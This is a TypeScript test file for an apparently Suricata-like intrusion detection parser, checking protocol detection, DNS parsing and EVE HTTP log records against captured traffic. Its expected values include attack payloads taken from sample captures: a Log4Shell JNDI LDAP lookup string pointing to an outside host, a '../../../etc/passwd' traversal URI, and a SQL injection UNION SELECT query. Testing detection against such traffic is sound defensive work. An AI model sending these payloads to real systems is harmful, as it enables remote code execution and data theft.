// Per-flow state: detection with buffering across splits, replay into the parser, failure,
// limits and counters, UDP DNS, and EVE records from corpus flows (expected values from
// `tshark -T fields -e http.request.uri -e http.host -e http.user_agent -e http.response.code`).
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { appLayerBuffer } from '../../src/applayer/appLayerBuffer';
import { AppLayerCounters } from '../../src/applayer/appLayerCounters';
import { httpEve } from '../../src/applayer/appLayerEve';
import { AppLayerState, DEFAULT_APP_LAYER_CONFIG } from '../../src/applayer/appLayerState';
import { AppProto } from '../../src/applayer/appProto';
import { corpusPath } from '../support/corpus';
import { readCapture } from './pcapStreams';

const B = (s: string): Buffer => Buffer.from(s, 'latin1');

test('detection waits for enough bytes, then replays client bytes before server bytes', () => {
  const c = new AppLayerCounters();
  const st = new AppLayerState(true, c);
  st.feed(true, B('G'));
  assert.is(st.proto, AppProto.UNKNOWN);
  st.feed(false, B('HTT')); // server bytes buffered while undecided
  st.feed(true, B('ET /x HTTP/1.1\r\nHost: a\r\n\r\n'));
  assert.is(st.proto, AppProto.HTTP);
  assert.is(st.detectedToServer, true);
  st.feed(false, B('P/1.1 204 No Content\r\n\r\n'));
  const tx = st.http!.transactions[0]!;
  assert.is(Buffer.from(tx.uri!).toString(), '/x');
  assert.is(tx.status, 204);
  assert.is(c.detected[AppProto.HTTP], 1);
});

test('both sides unknown: FAILED, counted, later bytes ignored', () => {
  const c = new AppLayerCounters();
  const st = new AppLayerState(true, c);
  st.feed(true, Buffer.from('\x00\x01garbage-bytes-here', 'latin1'));
  st.feed(false, Buffer.from('\xff\xfe more garbage', 'latin1'));
  assert.is(st.proto, AppProto.FAILED);
  assert.is(c.detectFailed, 1);
  st.feed(true, B('GET / HTTP/1.1\r\n\r\n'));
  assert.is(st.proto, AppProto.FAILED);
});

test('detection window is bounded per direction', () => {
  const c = new AppLayerCounters();
  const st = new AppLayerState(true, c, { ...DEFAULT_APP_LAYER_CONFIG, detectLimit: 8 });
  // "*1\r\n" then digits forever: a RESP prefix that never completes.
  st.feed(true, B('*123456789012'));
  assert.is(c.detectBufferOverflow, 5);
  st.feed(false, B('zzzzzzzzzzzz'));
  assert.is(st.proto, AppProto.FAILED);
});

test('a gap before detection gives up on that direction', () => {
  const st = new AppLayerState(true);
  st.gap(true);
  st.feed(false, B('random server talk\r\n'));
  assert.is(st.proto, AppProto.FAILED);
});

test('UDP: DNS per datagram', () => {
  const cap = readCapture(corpusPath('pcaps', 'dns-null-record.pcap'));
  const st = new AppLayerState(false);
  const [q, r] = cap.datagrams;
  st.feed(true, q!.data);
  st.feed(false, r!.data);
  assert.is(st.proto, AppProto.DNS);
  assert.equal(st.dns.map((d) => [d.toServer, d.message.questions[0]!.name]), [
    [true, 'vaaaakardli.pirate.sea'],
    [false, 'vaaaakardli.pirate.sea'],
  ]);
});

test('DNS over TCP, detected from the length-prefixed query', () => {
  const cap = readCapture(corpusPath('pcaps', 'dns-null-record.pcap'));
  const q = cap.datagrams[0]!.data;
  const st = new AppLayerState(true);
  const framed = Buffer.concat([Buffer.from([q.length >> 8, q.length & 255]), q]);
  for (let i = 0; i < framed.length; i++) st.feed(true, framed, i, i + 1);
  assert.is(st.proto, AppProto.DNS);
  assert.is(st.dns.length, 1);
  assert.is(st.dns[0]!.message.questions[0]!.name, 'vaaaakardli.pirate.sea');
});

function flows(file: string): AppLayerState[] {
  const cap = readCapture(corpusPath('pcaps', file));
  return cap.connections.filter((c) => c.chunks.length > 0).map((c) => {
    const st = new AppLayerState(true);
    for (const ch of c.chunks) st.feed(ch.toServer, ch.data);
    st.close(true);
    st.close(false);
    return st;
  });
}

test('corpus log4shell: EVE http record of the JNDI request', () => {
  const http = flows('log4shell-cve-2021-44228.pcap').filter((s) => s.proto === AppProto.HTTP);
  const login = http.map((s) => s.http!.transactions[0]!).find((t) => Buffer.from(t.uriRaw!).toString() === '/log4shell/login')!;
  assert.equal(httpEve(login), {
    length: 104,
    hostname: '192.168.13.31',
    url: '/log4shell/login',
    http_user_agent: 'jndi:ldap://172.16.238.11:1389/a',
    http_content_type: 'text/html', // Suricata logs the media type without parameters
    http_refer: 'http://192.168.13.31:8080/log4shell/',
    http_method: 'POST',
    protocol: 'HTTP/1.1',
    status: 200,
  });
  assert.is(Buffer.from(login.buffer('http.request_body', true)!).toString(),
    'uname=%24%7Bjndi%3Aldap%3A%2F%2F172.16.238.11%3A1389%2Fa%7D&password=');
});

test('corpus etc-passwd-traversal-tfo: raw and normalised URI', () => {
  const txs = flows('etc-passwd-traversal-tfo.pcap').flatMap((s) => s.http!.transactions);
  const t = txs.find((x) => Buffer.from(x.uriRaw!).toString().includes('passwd'))!;
  assert.is(Buffer.from(t.uriRaw!).toString(), '//index.php?page=../../../etc/passwd');
  assert.is(Buffer.from(t.uri!).toString(), '/index.php?page=../../../etc/passwd');
  assert.is(t.status, 200);
  assert.ok(Buffer.from(t.buffer('file.data', false)!).toString().includes('root:x:0:0'));
});


test('appLayerBuffer: sticky buffers by name across protocols', () => {
  const S = (b: Uint8Array | null): string | null => (b ? Buffer.from(b).toString('latin1') : null);
  const ssh = flows('ssh-password-guessing.pcap')[0]!;
  assert.is(S(appLayerBuffer(ssh, 'ssh.software', true)), 'OpenSSH_6.2');
  assert.is(S(appLayerBuffer(ssh, 'ssh.proto', false)), '2.0');
  const tls = flows('heartbleed-success.pcap')[0]!;
  assert.is(S(appLayerBuffer(tls, 'tls.cert_subject', false)), 'C=US, CN=www.lilawelt.de, emailAddress=postmaster@lilawelt.de');
  assert.is(appLayerBuffer(tls, 'tls.sni', true), null);
  const http = flows('dvwa-sqli.pcapng')[1]!;
  assert.is(S(appLayerBuffer(http, 'http_uri', true, 0)), "/dvwa/vulnerabilities/sqli/?id=1'+UNION+SELECT+NULL,+version()+#&Submit=Submit");
  assert.is(appLayerBuffer(http, 'http.uri', true, 5), null);
  const cap = readCapture(corpusPath('pcaps', 'dns-null-record.pcap'));
  const dns = new AppLayerState(false);
  dns.feed(true, cap.datagrams[0]!.data);
  assert.is(S(appLayerBuffer(dns, 'dns.query', true, 0)), 'vaaaakardli.pirate.sea');
});


// EVE http objects that Suricata itself logged for these suricata-verify cases (their
// test.yaml `event_type: http` / alert checks).
const SV_EVE: Array<[string, number, Record<string, unknown>]> = [
  ['tcp-fastopen-01/tfo.pcap', 0, {
    url: '/index.php', http_user_agent: 'Mozilla/5.0', http_content_type: 'text/html', http_method: 'GET',
    protocol: 'HTTP/1.0', status: 302, redirect: '/index.php?page=main.php', length: 0,
  }],
  ['tcp-fastopen-07/tcp_fastopen_segmentation.pcap', 1, {
    hostname: '10.0.0.61', url: '//a1a2a3a4a5a6a7a8a9a0b1b2b3b4b5b6b7b8b9b0c1c2c3c4c5c6c7c8c9c0d1d2d3d4d5d6d7d8d9d0',
    http_user_agent: 'czxt2s', http_content_type: 'text/html', http_method: 'GET', protocol: 'HTTP/1.1', status: 404, length: 153,
  }],
  ['bug-78-uricontent/input.pcap', 0, {
    hostname: 'www.google.com', url: '/blah/', http_user_agent: 'Wget/1.11.4', http_content_type: 'text/html',
    http_method: 'GET', protocol: 'HTTP/1.0', status: 404,
  }],
];

for (const [pcap, conn, want] of SV_EVE) {
  test(`EVE http matches Suricata's log: ${pcap}`, () => {
    const cap = readCapture(corpusPath('suricata-verify', 'tests', ...pcap.split('/')));
    const c = cap.connections.filter((x) => x.chunks.length > 0)[conn]!;
    const st = new AppLayerState(true);
    for (const ch of c.chunks) st.feed(ch.toServer, ch.data);
    const got = httpEve(st.http!.transactions[0]!) as unknown as Record<string, unknown>;
    for (const [k, v] of Object.entries(want)) assert.equal(got[k], v, k);
  });
}

test.run();
